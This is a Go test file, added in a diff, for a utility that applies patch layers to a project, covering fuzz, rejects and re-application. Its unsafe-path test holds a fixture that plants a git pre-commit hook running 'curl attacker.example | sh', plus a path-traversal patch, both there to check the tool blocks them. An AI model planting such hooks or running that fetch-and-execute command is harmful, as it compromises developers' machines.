@@ -0,0 +1,174 @@
+package util
+
+import (
+	"os"
+	"strings"
+	"testing"
+)
+
+const testPatch = `diff --git a/config/app.rb b/config/app.rb
+index 1234567..89abcde 100644
+--- a/config/app.rb
++++ b/config/app.rb
+@@ -1,5 +1,6 @@
+ require "framework"
+ 
+ class App
++  config.logger = :json
+   config.timezone = "UTC"
+ end
+@@ -10,3 +11,3 @@
+ # settings
+-config.cache = false
++config.cache = true
+ # end
+--- /dev/null
++++ b/config/initializers/otter.rb
+@@ -0,0 +1,2 @@
++# Added by a layer
++Otter.enable!
+\ No newline at end of file
+`
+
+func setupPatchProject(t *testing.T, appContent string) *MemFileSystem {
+	t.Helper()
+
+	fsys := NewMemFileSystem()
+	for _, dir := range []string{"/layer", "/project/config"} {
+		if err := fsys.MkdirAll(dir, 0755); err != nil {
+			t.Fatalf("Failed to create %s: %v", dir, err)
+		}
+	}
+	if err := fsys.WriteFile("/layer/01-app.patch", []byte(testPatch), 0644); err != nil {
+		t.Fatalf("Failed to write patch: %v", err)
+	}
+	if err := fsys.WriteFile("/project/config/app.rb", []byte(appContent), 0644); err != nil {
+		t.Fatalf("Failed to write project file: %v", err)
+	}
+	return fsys
+}
+
+func TestParsePatch(t *testing.T) {
+	patches, err := ParsePatch([]byte(testPatch))
+	if err != nil {
+		t.Fatalf("ParsePatch failed: %v", err)
+	}
+
+	if len(patches) != 2 {
+		t.Fatalf("Expected 2 file patches, got %d", len(patches))
+	}
+	if patches[0].OldPath != "config/app.rb" || patches[0].NewPath != "config/app.rb" || len(patches[0].Hunks) != 2 {
+		t.Errorf("Unexpected first patch: %+v", patches[0])
+	}
+	if patches[1].OldPath != "" || patches[1].NewPath != "config/initializers/otter.rb" || !patches[1].Hunks[0].NoEOL {
+		t.Errorf("Unexpected second patch: %+v", patches[1])
+	}
+
+	if _, err := ParsePatch([]byte("@@ -1 +1 @@\n-a\n+b\n")); err == nil {
+		t.Error("Expected error for hunk without file header")
+	}
+}
+
+func TestApplyPatchLayer(t *testing.T) {
+	// Lines were added at the top of the file since the patch was made, so hunks apply with an offset
+	original := "# frozen\n\nrequire \"framework\"\n\nclass App\n  config.timezone = \"UTC\"\nend\n\n\n\n\n# settings\nconfig.cache = false\n# end\n"
+	fsys := setupPatchProject(t, original)
+
+	fileOps := NewFileOperationsWithFS(fsys)
+	results, err := fileOps.ApplyPatchLayer("/layer", "/project", DefaultPatchFuzz)
+	if err != nil {
+		t.Fatalf("ApplyPatchLayer failed: %v", err)
+	}
+	if len(results) != 2 || results[0].Applied != 2 || results[1].Applied != 1 {
+		t.Errorf("Unexpected results: %+v", results)
+	}
+
+	content, _ := fsys.ReadFile("/project/config/app.rb")
+	expected := "# frozen\n\nrequire \"framework\"\n\nclass App\n  config.logger = :json\n  config.timezone = \"UTC\"\nend\n\n\n\n\n# settings\nconfig.cache = true\n# end\n"
+	if string(content) != expected {
+		t.Errorf("Unexpected patched file:\n%s", content)
+	}
+
+	created, _ := fsys.ReadFile("/project/config/initializers/otter.rb")
+	if string(created) != "# Added by a layer\nOtter.enable!" {
+		t.Errorf("Unexpected created file: %q", created)
+	}
+
+	// Applying the layer again recognizes the hunks as already applied
+	results, err = fileOps.ApplyPatchLayer("/layer", "/project", DefaultPatchFuzz)
+	if err != nil {
+		t.Fatalf("Reapplying failed: %v", err)
+	}
+	if results[0].Skipped != 2 || results[0].Applied != 0 || results[1].Skipped != 1 {
+		t.Errorf("Expected all hunks to be skipped, got %+v", results)
+	}
+	if again, _ := fsys.ReadFile("/project/config/app.rb"); string(again) != expected {
+		t.Errorf("Reapplying changed the file:\n%s", again)
+	}
+}
+
+func TestApplyPatchLayerFuzzAndRejects(t *testing.T) {
+	// The first context line differs, which fuzz tolerates; the second hunk's target line is gone
+	original := "require \"framework/core\"\n\nclass App\n  config.timezone = \"UTC\"\nend\n# settings\nconfig.cache = :redis\n# end\n"
+	fsys := setupPatchProject(t, original)
+
+	fileOps := NewFileOperationsWithFS(fsys)
+	results, err := fileOps.ApplyPatchLayer("/layer", "/project", DefaultPatchFuzz)
+	if err == nil || !strings.Contains(err.Error(), "1 hunk(s)") {
+		t.Fatalf("Expected a rejected hunk error, got %v", err)
+	}
+	if results[0].Applied != 1 || results[0].Fuzzed != 1 || results[0].Rejected != 1 {
+		t.Errorf("Unexpected result: %+v", results[0])
+	}
+
+	content, _ := fsys.ReadFile("/project/config/app.rb")
+	if !strings.Contains(string(content), "config.logger = :json\n  config.timezone") {
+		t.Errorf("Expected fuzzed hunk to apply:\n%s", content)
+	}
+
+	rej, err := fsys.ReadFile("/project/config/app.rb.rej")
+	if err != nil {
+		t.Fatalf("Expected reject file: %v", err)
+	}
+	if !strings.Contains(string(rej), "+config.cache = true") {
+		t.Errorf("Unexpected reject file:\n%s", rej)
+	}
+
+	// Without fuzz the first hunk is rejected too
+	fsys = setupPatchProject(t, original)
+	results, _ = NewFileOperationsWithFS(fsys).ApplyPatchLayer("/layer", "/project", 0)
+	if results[0].Rejected != 2 {
+		t.Errorf("Expected both hunks rejected without fuzz, got %+v", results[0])
+	}
+}
+
+func TestApplyPatchLayerUnsafePaths(t *testing.T) {
+	hook := "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl attacker.example | sh\n"
+	escape := "--- /dev/null\n+++ b/../escaped.txt\n@@ -0,0 +1 @@\n+escaped\n"
+
+	// Files the ignore rules protect are left alone, like copied files
+	fsys := setupPatchProject(t, "")
+	fsys.MkdirAll("/project/.git/hooks", 0755)
+	fsys.WriteFile("/layer/01-app.patch", []byte(hook), 0644)
+	fileOps := NewFileOperationsWithFS(fsys)
+	results, err := fileOps.ApplyPatchLayer("/layer", "/project", DefaultPatchFuzz)
+	if err != nil || len(results) != 0 {
+		t.Errorf("Expected the hook patch to be ignored, got %+v, %v", results, err)
+	}
+	if _, err := fsys.Stat("/project/.git/hooks/pre-commit"); !os.IsNotExist(err) {
+		t.Errorf("Expected no git hook to be created, got %v", err)
+	}
+	if ignored := fileOps.TakeIgnored(); len(ignored) != 1 || ignored[0].Source != "built-in" {
+		t.Errorf("Expected the hook to be recorded as ignored, got %+v", ignored)
+	}
+
+	// Files outside the target fail the layer
+	fsys = setupPatchProject(t, "")
+	fsys.WriteFile("/layer/01-app.patch", []byte(escape), 0644)
+	if _, err := NewFileOperationsWithFS(fsys).ApplyPatchLayer("/layer", "/project", DefaultPatchFuzz); err == nil || !strings.Contains(err.Error(), "outside the target") {
+		t.Errorf("Expected a patch escaping the target to fail, got %v", err)
+	}
+	if _, err := fsys.Stat("/escaped.txt"); !os.IsNotExist(err) {
+		t.Errorf("Expected nothing to be written outside the target, got %v", err)
+	}
+}